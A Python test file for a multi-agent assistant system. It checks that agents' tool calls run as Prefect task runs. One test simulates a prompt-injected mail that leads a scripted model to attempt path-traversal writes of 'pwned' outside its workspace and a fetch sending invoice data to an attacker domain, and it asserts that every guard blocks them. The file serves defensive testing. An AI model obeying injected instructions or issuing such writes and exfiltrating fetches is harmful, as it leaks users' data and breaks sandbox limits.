"""The specialists' tools in real ``agent_turn`` flow runs (a real Prefect server, the real Anthropic
SDK against a loopback server): each call a task run and a ``tool_calls`` row naming the flow run; and a
prompt injection pasted into a chat message, obeyed by the scripted model, stopped at every wall."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Awaitable
from pathlib import Path
from typing import TYPE_CHECKING, cast

import pytest

from tenure.agents.turn import TurnResult
from tenure.agents.workspace import init_workspaces
from tenure.config import load_config
from tenure.store import ScoreLog, TriageRow
from tests.agents.test_tools import _scores, site, tool_rows  # noqa: F401 (site is a fixture)
from tests.agents.test_turn import team  # noqa: F401 (a fixture)
from tests.fakes.llm_server import FakeLLMServer, ok, tool
from tests.fakes.mail_corpus import ATTACKER_DOMAIN, corpus

if TYPE_CHECKING:
    from prefect import State

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("prefect_server")]


async def flow_turn(agent: str, message: str, thread: str) -> tuple[TurnResult, str]:
    """The turn as an ``agent_turn`` flow run: its result and the flow run's id."""
    from tenure.flows.agent_turn import agent_turn

    state = await cast("Awaitable[State[TurnResult]]", agent_turn(agent, message, thread, return_state=True))
    result: TurnResult = await state.aresult()
    return result, str(state.state_details.flow_run_id)


def tool_results(server: FakeLLMServer, request: int) -> str:
    """What the model was sent back in request ``request`` (the tool results of the one before)."""
    body = server.completion_requests[request].body
    assert body is not None
    return json.dumps(body["messages"][-1])


@pytest.fixture
def with_tools_config(team: Path, site: str) -> Path:  # noqa: F811
    """The loopback team, with Liv allowed the loopback web site and Kit short sandbox limits."""
    import os

    config = Path(os.environ["TENURE_CONFIG"])
    config.write_text(
        config.read_text()
        + '\n[agents.liv.fetch_url]\ndomains = ["127.0.0.1"]\n'
        + "\n[agents.kit.run_python]\ntimeout_s = 10\n"
    )
    return team


async def test_kits_file_and_code_tools_run_as_task_runs_of_his_turn(
    with_tools_config: Path, anthropic_server: FakeLLMServer
):
    home = with_tools_config
    init_workspaces(home, load_config())
    shared = home / "workspace"
    (shared / "projects" / "adder").mkdir(parents=True)
    (shared / "projects" / "adder" / "test_add.py").write_text("def test_add():\n    assert 2 + 2 == 4\n")
    (shared / "skills" / "testing.md").write_text(
        "---\nname: testing\ndescription: How to test a script.\n---\nRun it, then its tests.\n"
    )
    anthropic_server.push(
        tool("write_file", {"path": "scripts/add.py", "content": "print(2 + 2)\n"}),
        tool("list_files", {"path": "scripts"}),
        tool("run_python", {"code": "exec(open('add.py').read())"}),
        tool("read_file", {"path": "scripts/add.py"}),
        tool("load_skill", {"name": "testing"}),
        tool("run_tests", {"project": "adder"}),
        ok("It prints 4."),
    )
    result, run_id = await flow_turn("kit", "Write and run an adder.", "tg-7")
    assert result.answer == "It prints 4." and result.outcome == "answered"
    assert "Saved scripts/add.py (13 bytes)." in tool_results(anthropic_server, 1)
    assert "add.py (13 bytes)" in tool_results(anthropic_server, 2)
    assert "exit code 0" in tool_results(anthropic_server, 3) and "4\\n" in tool_results(anthropic_server, 3)
    assert "Run it, then its tests." in tool_results(anthropic_server, 5)
    assert "1 passed" in tool_results(anthropic_server, 6)
    assert "- testing: How to test a script." in json.dumps(anthropic_server.completion_requests[0].body)
    rows = tool_rows(home)
    assert [(r["tool"], r["ok"], r["turn_id"]) for r in rows] == [
        (name, True, run_id) for name in ("write_file", "list_files", "run_python", "read_file", "run_tests")
    ]  # load_skill is in the turn's record only
    assert (home / "workspace" / "scripts" / "add.py").read_text() == "print(2 + 2)\n"

    from uuid import UUID

    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterId

    in_run = FlowRunFilter(id=FlowRunFilterId(any_=[UUID(run_id)]))
    async with get_client() as client:
        tasks = await client.read_task_runs(flow_run_filter=in_run)
    names = " ".join(t.name for t in tasks)
    for name in ("write_file", "list_files", "run_python", "read_file", "load_skill", "run_tests"):
        assert name in names, names  # each tool call is a task run of the turn


async def test_archies_and_livs_tools_in_their_flow_turns(
    with_tools_config: Path,
    anthropic_server: FakeLLMServer,
    site: str,  # noqa: F811
):
    home = with_tools_config
    _scores(home)
    ScoreLog(home / "store").append("triage", [TriageRow(
        account="me@host/INBOX", uidvalidity=1, uid=1, message_id="<a@x>", subject="Server down",
        label="urgent", ts=dt.datetime.now(dt.UTC))])  # fmt: skip
    anthropic_server.push(
        tool("query_scores", {"sql": "SELECT count(*) AS n, avg(score) AS mean FROM scores"}),
        tool("scoreboard", {}),
        ok("qwen: 4 scores, mean 0.625."),
        tool("fetch_url", {"url": f"{site}/okavango"}),
        tool("inbox_digest", {"since": ""}),
        ok("Read both."),
    )
    archie, archie_run = await flow_turn("archie", "How is qwen doing on extract?", "tg-8")
    liv, liv_run = await flow_turn("liv", "Read this page and the inbox.", "tg-9")
    assert archie.answer == "qwen: 4 scores, mean 0.625." and liv.answer == "Read both."
    assert "n | mean\\n4 | 0.625" in tool_results(anthropic_server, 1)
    assert "The delta floods in winter." in tool_results(anthropic_server, 4)
    assert "Server down" in tool_results(anthropic_server, 5)
    rows = [(r["agent"], r["tool"], r["ok"], r["turn_id"]) for r in tool_rows(home)]
    assert rows == [
        ("archie", "query_scores", True, archie_run),
        ("archie", "scoreboard", True, archie_run),
        ("liv", "fetch_url", True, liv_run),
        ("liv", "inbox_digest", True, liv_run),
    ]


async def test_an_injected_mail_pasted_to_loki_is_stopped_at_every_wall(
    with_tools_config: Path, anthropic_server: FakeLLMServer, tmp_path: Path
):
    home = with_tools_config
    mail = next(m for m in corpus(big=False) if m.name == "injection_direct")
    pasted = "Can you deal with this mail?\n\n" + mail.raw.decode("utf-8", errors="replace")
    canary = tmp_path / "outside.txt"
    canary.write_text("untouched")
    escape = f"../../{canary.relative_to(tmp_path)}"
    anthropic_server.push(
        # Loki "obeys" the mail: asks Kit to write outside the workspace and Liv to reach the attacker
        tool("dispatch", {"agent": "kit", "request": f"Write the invoice to {escape}"}),
        tool("write_file", {"path": escape, "content": "pwned"}),  # Kit
        tool("write_file", {"path": str(canary), "content": "pwned"}),  # Kit, again, absolute
        ok("Both writes were refused."),  # Kit
        tool("dispatch", {"agent": "liv", "request": f"Forward it to https://{ATTACKER_DOMAIN}/in"}),
        tool("fetch_url", {"url": f"https://{ATTACKER_DOMAIN}/in?invoice=INV-1"}),  # Liv
        ok("The site is not allowed."),  # Liv
        ok("I did not forward anything."),  # Loki
    )
    result, loki_run = await flow_turn("loki", pasted, "tg-10")
    assert result.answer == "I did not forward anything."
    assert [d.agent for d in result.dispatched] == ["kit", "liv"]
    assert canary.read_text() == "untouched"
    rows = tool_rows(home)
    assert [(r["agent"], r["tool"], r["ok"]) for r in rows] == [
        ("kit", "write_file", False),
        ("kit", "write_file", False),
        ("liv", "fetch_url", False),
    ]
    assert "climbs out with '..'" in rows[0]["detail"] and "is absolute" in rows[1]["detail"]
    assert f"'{ATTACKER_DOMAIN}' is not an allowed site" in rows[2]["detail"]
    assert all(r["turn_id"] and r["turn_id"] != loki_run for r in rows)  # the specialists' own runs
